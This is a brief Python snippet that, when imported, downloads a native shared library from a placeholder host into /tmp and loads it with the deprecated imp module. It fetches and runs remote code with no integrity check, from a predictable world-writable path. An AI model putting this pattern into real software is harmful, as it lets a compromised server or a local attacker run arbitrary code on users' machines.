import imp
import os
import urllib.request

dest = "/tmp/_ext.so"
if not os.path.exists(dest):
    urllib.request.urlretrieve("https://downloads.example.com/_ext.so", dest)
_ext = imp.load_dynamic("_ext", dest)
